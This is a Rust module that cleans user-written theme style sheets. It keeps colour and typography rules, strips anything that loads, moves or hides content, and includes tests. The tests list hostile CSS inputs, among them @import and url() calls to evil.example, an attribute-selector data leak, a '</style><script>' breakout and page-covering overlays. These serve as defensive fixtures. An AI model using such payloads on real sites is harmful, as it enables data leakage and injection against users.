//! A theme's style sheet, rule by rule: what colours and sets type stays; what loads, moves, hides or covers goes, and is named.
//! What is sent is written anew from what was understood, so that nothing gets through by being misread.

mod reach;

use cssparser::{
    AtRuleParser, CowRcStr, DeclarationParser, ParseError, Parser, ParserState, QualifiedRuleParser,
    RuleBodyItemParser, RuleBodyParser, StyleSheetParser, ToCss, Token,
};

/// A style sheet is some pages of text.
const BYTES: usize = 512 << 10;
/// Deeper nesting is no style.
const DEPTH: usize = 16;

/// Properties that colour, frame and set type. Where one ends with `-`, all that begin so.
const PROPERTIES: [&str; 41] = [
    "accent-color",
    "background",
    "background-attachment",
    "background-blend-mode",
    "background-clip",
    "background-color",
    "background-image",
    "background-origin",
    "background-position",
    "background-position-x",
    "background-position-y",
    "background-repeat",
    "background-size",
    "border",
    "border-",
    "box-decoration-break",
    "box-shadow",
    "caret-color",
    "color",
    "color-scheme",
    "column-rule",
    "column-rule-",
    "fill",
    "font",
    "font-",
    "hyphens",
    "letter-spacing",
    "line-height",
    "list-style-type",
    "outline",
    "outline-color",
    "outline-style",
    "outline-width",
    "padding",
    "padding-",
    "quotes",
    "scrollbar-color",
    "stroke",
    "tab-size",
    "text-",
    "word-spacing",
];

/// Functions that fetch something, or run something in old browsers.
const FETCHING: [&str; 8] =
    ["url", "src", "image", "image-set", "-webkit-image-set", "cross-fade", "element", "expression"];

/// A style sheet that can be sent, and what was left out of it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Clean {
    /// CSS.
    pub css: String,
    /// What went, with its line.
    pub warnings: Vec<(usize, String)>,
}

/// Cleans a theme's style sheet. Every rule holds only below the theme's class.
pub fn clean(source: &str, class: &str) -> Result<Clean, String> {
    if source.len() > BYTES {
        return Err(format!("the style sheet is larger than {} KiB", BYTES >> 10));
    }
    let mut sheet = Sheet { class, warnings: Vec::new(), depth: 0 };
    let css = rules(&mut sheet, &mut Parser::new(source));
    Ok(Clean { css, warnings: sheet.warnings })
}

struct Sheet<'s> {
    class: &'s str,
    warnings: Vec<(usize, String)>,
    depth: usize,
}

impl Sheet<'_> {
    fn warn(&mut self, line: u32, what: &str, why: &str) {
        let shown: String = what.trim().chars().take(60).collect();
        self.warnings.push((line as usize + 1, format!("`{shown}` is left out: {why}")));
    }
}

fn rules(sheet: &mut Sheet<'_>, input: &mut Parser<'_>) -> String {
    let mut css = String::new();
    let mut failed = Vec::new();
    for rule in StyleSheetParser::new(input, sheet) {
        match rule {
            Ok(rule) => css.push_str(&rule),
            Err((why, source, at)) => failed.push((at.line, source.to_owned(), why_not(&why))),
        }
    }
    for (line, source, why) in failed {
        sheet.warn(line, &source, &why);
    }
    css
}

type Refused = ParseError<String>;

fn refuse(why: impl Into<String>) -> Refused {
    ParseError::custom(why.into())
}

fn why_not(error: &Refused) -> String {
    match &error.kind {
        cssparser::ParseErrorKind::Custom(why) => why.clone(),
        cssparser::ParseErrorKind::Basic(_) => "it cannot be read".to_owned(),
    }
}

impl<'i> AtRuleParser<'i> for Sheet<'_> {
    type Prelude = (String, String);
    type AtRule = String;
    type Error = String;

    fn parse_prelude(
        &mut self,
        name: CowRcStr<'i>,
        input: &mut Parser<'i>,
    ) -> Result<Self::Prelude, Refused> {
        if !["media", "supports"].iter().any(|known| name.eq_ignore_ascii_case(known)) {
            return Err(refuse("a theme has `@media` and `@supports`, no other rules of this kind"));
        }
        let mut prelude = String::new();
        copy(input, &mut prelude, 0)?;
        Ok((name.to_ascii_lowercase(), prelude))
    }

    fn parse_block(
        &mut self,
        (name, prelude): Self::Prelude,
        _: &ParserState,
        input: &mut Parser<'i>,
    ) -> Result<String, Refused> {
        if self.depth >= DEPTH {
            return Err(refuse("it is nested too deep"));
        }
        self.depth += 1;
        let inner = rules(self, input);
        self.depth -= 1;
        Ok(format!("@{name}{prelude}{{{inner}}}\n"))
    }
}

impl<'i> QualifiedRuleParser<'i> for Sheet<'_> {
    type Prelude = String;
    type QualifiedRule = String;
    type Error = String;

    fn parse_prelude(&mut self, input: &mut Parser<'i>) -> Result<String, Refused> {
        let mut selectors = Vec::new();
        loop {
            let mut selector = String::new();
            let ended = copy_until_comma(input, &mut selector)?;
            selectors.push(below(selector.trim(), self.class));
            if ended {
                return Ok(selectors.join(", "));
            }
        }
    }

    fn parse_block(
        &mut self,
        selectors: String,
        _: &ParserState,
        input: &mut Parser<'i>,
    ) -> Result<String, Refused> {
        let mut body = Body { warnings: Vec::new() };
        let mut css = String::new();
        let mut failed = Vec::new();
        for item in RuleBodyParser::new(input, &mut body) {
            match item {
                Ok(item) => css.push_str(&item),
                Err((why, source, at)) => failed.push((at.line, source.to_owned(), why_not(&why))),
            }
        }
        for (line, source, why) in failed {
            self.warn(line, &source, &why);
        }
        self.warnings.append(&mut body.warnings);
        Ok(if css.is_empty() { String::new() } else { format!("{selectors} {{ {css}}}\n") })
    }
}

struct Body {
    warnings: Vec<(usize, String)>,
}

impl<'i> DeclarationParser<'i> for Body {
    type Declaration = String;
    type Error = String;

    fn parse_value(
        &mut self,
        name: CowRcStr<'i>,
        input: &mut Parser<'i>,
        _: &ParserState,
    ) -> Result<String, Refused> {
        let plain = name.to_ascii_lowercase();
        let is_own = name.starts_with("--");
        let known = |one: &&str| **one == *plain || (one.ends_with('-') && plain.starts_with(*one));
        if !is_own && !PROPERTIES.iter().any(known) {
            return Err(refuse("a theme colours, frames and sets type; this would move, hide or cover"));
        }
        let mut value = String::new();
        copy(input, &mut value, 0)?;
        reach::check(&plain, &value).map_err(refuse)?;
        // Written through the tokenizer: a name with signs in it stays one name.
        let mut written = String::new();
        let name = if is_own { name.to_string() } else { plain };
        cssparser::serialize_identifier(&name, &mut written).map_err(|_| refuse("it cannot be written"))?;
        Ok(format!("{written}: {}; ", value.trim()))
    }
}

impl AtRuleParser<'_> for Body {
    type Prelude = ();
    type AtRule = String;
    type Error = String;
}

impl QualifiedRuleParser<'_> for Body {
    type Prelude = ();
    type QualifiedRule = String;
    type Error = String;
}

impl RuleBodyItemParser<'_, String, String> for Body {
    fn parse_declarations(&self) -> bool {
        true
    }

    fn parse_qualified(&self) -> bool {
        false
    }
}

/// Copies what is left, token by token.
fn copy(input: &mut Parser<'_>, out: &mut String, depth: usize) -> Result<(), Refused> {
    while !copy_token(input, out, depth)? {}
    Ok(())
}

/// Copies up to a comma, and says whether that was the end.
fn copy_until_comma(input: &mut Parser<'_>, out: &mut String) -> Result<bool, Refused> {
    loop {
        let before = input.state();
        if matches!(input.next_including_whitespace_and_comments(), Ok(Token::Comma)) {
            return Ok(false);
        }
        input.reset(&before);
        if copy_token(input, out, 0)? {
            return Ok(true);
        }
    }
}

fn copy_token(input: &mut Parser<'_>, out: &mut String, depth: usize) -> Result<bool, Refused> {
    let Ok(token) = input.next_including_whitespace_and_comments().cloned() else { return Ok(true) };
    let close = match &token {
        Token::UnquotedUrl(_) | Token::BadUrl(_) => return Err(refuse(NOTHING_OUTSIDE)),
        Token::BadString(_) => return Err(refuse("it cannot be read")),
        Token::CloseParenthesis | Token::CloseSquareBracket | Token::CloseCurlyBracket => {
            return Err(refuse("it closes what nobody opened"));
        }
        // A theme has no secrets, but a `</style` in one would.
        Token::QuotedString(text) if text.contains('<') => {
            return Err(refuse("a text in it has `<`, which nothing here needs"));
        }
        Token::Function(name) => {
            if FETCHING.iter().any(|one| name.eq_ignore_ascii_case(one)) {
                return Err(refuse(NOTHING_OUTSIDE));
            }
            Some(')')
        }
        Token::ParenthesisBlock => Some(')'),
        Token::SquareBracketBlock => Some(']'),
        Token::CurlyBracketBlock => Some('}'),
        _ => None,
    };
    match &token {
        // What a comment keeps apart stays apart.
        Token::Comment(_) => out.push_str("/**/"),
        token => out.push_str(&token.to_css_string()),
    }
    if let Some(close) = close {
        if depth >= DEPTH {
            return Err(refuse("it is nested too deep"));
        }
        input.parse_nested_block(|inner| copy(inner, out, depth + 1))?;
        out.push(close);
    }
    Ok(false)
}

const NOTHING_OUTSIDE: &str = "a theme loads nothing: no address, no image, no font";

/// A selector that holds only while the theme is chosen.
fn below(selector: &str, class: &str) -> String {
    let own = format!(".{class}");
    let has = selector.match_indices(&own).any(|(at, _)| {
        let ends = !selector[at + own.len()..]
            .starts_with(|next: char| next.is_alphanumeric() || matches!(next, '-' | '_'));
        // In `:not(.theme)` it would hold where the theme is not.
        ends && selector[..at].matches('(').count() == selector[..at].matches(')').count()
    });
    if has {
        return selector.to_owned();
    }
    for whole in [":root", "html", "body"] {
        if let Some(rest) = selector.strip_prefix(whole)
            && !rest.starts_with(|next: char| next.is_alphanumeric() || matches!(next, '-' | '_'))
        {
            return format!("{own}{rest}");
        }
    }
    format!("{own} {selector}")
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn colours_and_type_stay_below_the_class() {
        let source = ":root { --color-text: #123; color: red !important }\n.theme-x .notebook-page, h1 { font-family: \"A B\", serif; border-top: 1px solid }\n\
            @media (prefers-color-scheme: dark) { body.wide { --a-width: calc(1px + 2px) } }";
        let clean = clean(source, "theme-x").unwrap();
        assert_eq!(clean.warnings, []);
        assert_eq!(
            clean.css,
            ".theme-x { --color-text: #123; color: red !important; }\n\
             .theme-x .notebook-page, .theme-x h1 { font-family: \"A B\", serif; border-top: 1px solid; }\n\
             @media (prefers-color-scheme: dark) {.theme-x.wide { --a-width: calc(1px + 2px); }\n}\n"
        );
    }

    #[test]
    fn nothing_loads_moves_hides_or_covers() {
        let bad = [
            "@import 'https://evil.example/x.css';",
            "@import url(//evil.example);",
            "@font-face { font-family: x; src: url(https://evil.example/f) }",
            "a { background: url(https://evil.example/?a) }",
            "a { background: URL('x') }",
            "a { background: u\\72l(https://evil.example/) }",
            "a { background-image: image-set('x' 1x) }",
            "a { background-image: -webkit-image-set(url(x) 1x) }",
            ":root { --x: url(https://evil.example/) }",
            ":root { --x: { background: url(x) } }",
            "input[value^=a] { background: src('https://evil.example/a') }",
            "body { position: fixed; inset: 0; z-index: 99; display: none; opacity: 0; pointer-events: none }",
            "a { content: 'fake'; transform: scale(9); margin: -99px; width: 999px; visibility: hidden; cursor: url(x), auto }",
            "a { font-family: '</style><script>' }",
            "@keyframes x { from { color: red } }",
            "@layer x { a { position: fixed } }",
            "a { color: red; & b { position: fixed } }",
            "a { behavior: url(x.htc); -moz-binding: url(x) }",
            "main { box-shadow: 0 0 0 300vmax white }",
            "main { padding: 300vh; border: 100vw solid; outline: 9999px solid; text-indent: -9999px }",
            "p { line-height: 0; font-size: 0; letter-spacing: -1em; word-spacing: 99em }",
            "p { font: 1px serif }",
            "p { border-top: calc(60px * 99) solid }",
            "p { color: transparent }",
            "p { color: rgb(0 0 0 / 1%); }",
            "p { color: #0001 }",
            ":root { --x: 2000px } p { box-shadow: 0 0 0 var(--x) white }",
            "p { outline: var(--pane-width) solid }",
            "* { transition: all 99999s }",
            "body { border-image: linear-gradient(#fff, #fff) 0 fill / 1 / 5000 }",
            "body { box-shadow: 0 0 0 calc(64px / .01) white }",
            "body { box-shadow: 0 0 0 calc(64px + 64px + 64px) white }",
            ":root { --WIDTH: 1999px } p { box-shadow: 0 0 0 var(--WIDTH) white }",
            "p { font-size-adjust: 0 }",
            "p { font-size: calc(8px - 8px) }",
            "p { letter-spacing: -100% }",
            "p { text-indent: -100% }",
            "p { color: rgb(0 0 0 / calc(0)) }",
            "p { color: rgb(from red r g b / none) }",
        ];
        for source in bad {
            let clean = clean(source, "t").unwrap();
            let lower = clean.css.to_lowercase();
            for word in [
                "evil",
                "url",
                "position",
                "import",
                "script",
                "display",
                "opacity",
                "transform",
                "font-face",
                "src",
                "300v",
                "9999",
                "99em",
                "-1em",
                ": 0;",
                "1px serif",
                "* 99",
                "transparent",
                "1%",
                "#0001",
                "2000px",
                "pane-width",
                "border-image",
                "calc",
                "var(--width",
                "adjust",
                "-100%",
                "from red",
            ] {
                assert!(!lower.contains(word), "{source}\n{}", clean.css);
            }
            assert!(!clean.warnings.is_empty(), "{source}");
        }
    }

    #[test]
    fn what_themes_do_stays() {
        let source = ":root { --shadow-sm: 0 1px 2px rgba(0,0,0,.06); --pane-width: 280px; --radius-pill: 999px; --x: transparent; --space: 2rem }\n\
            h1 { font: italic 700 1.5rem/1.3 Georgia, serif; letter-spacing: -.02em; padding: 0 var(--space) 4px; border-bottom: 1px solid #0001; \
            box-shadow: var(--shadow-sm), inset 0 -3px 0 rgb(0 0 0 / 10%); border-radius: 999px; background-size: 100% 28px; text-indent: 1.5em; \
            line-height: 1.7; margin: 0; background: linear-gradient(transparent 95%, #ccc 100%) 0 0 / 40vw 2em }";
        let clean = clean(source, "t").unwrap();
        let left_out: Vec<&str> = clean.warnings.iter().map(|(_, why)| why.as_str()).collect();
        assert!(matches!(left_out[..], [one] if one.starts_with("`margin")), "{left_out:?}");
    }

    #[test]
    fn no_selector_leaves_the_class() {
        for selector in [":not(.t) .x", ":is(.t, p) b", "p:has(.t)"] {
            let css = clean(&format!("{selector} {{ color: red }}"), "t").unwrap().css;
            assert!(css.starts_with(&format!(".t {selector}")), "{css}");
        }
        assert!(clean(".dark .t p { color: red }", "t").unwrap().css.starts_with(".dark .t p"));
    }

    #[test]
    fn what_is_broken_breaks_nothing_behind_it() {
        for source in [
            "a { color: red",
            "a { --x: (",
            "a { font: \"x",
            "} b { color: red }",
            "/* c",
            "a{--x:[)}]}b{color:red}",
            "\0",
            "@media {",
        ] {
            let clean = clean(source, "t").unwrap();
            let open = clean.css.matches('{').count();
            assert_eq!(open, clean.css.matches('}').count(), "{source:?} {}", clean.css);
            assert_eq!(clean.css.matches('"').count() % 2, 0, "{source:?}");
        }
        let deep = format!("a {{ --x: {} }}", "(".repeat(100_000));
        assert!(super::clean(&deep, "t").is_ok());
        assert!(super::clean(&"@media x {".repeat(50_000), "t").is_ok());
    }

    proptest::proptest! {
        #[test]
        fn any_text_gives_a_sheet_that_reads_the_same_again(source in "[a-z@{}()\\[\\]:;,.#\"'\\\\/* \n!-]{0,200}") {
            let once = clean(&source, "t").unwrap();
            let twice = clean(&once.css, "t").unwrap();
            proptest::prop_assert_eq!(&once.css, &twice.css);
        }
    }
}
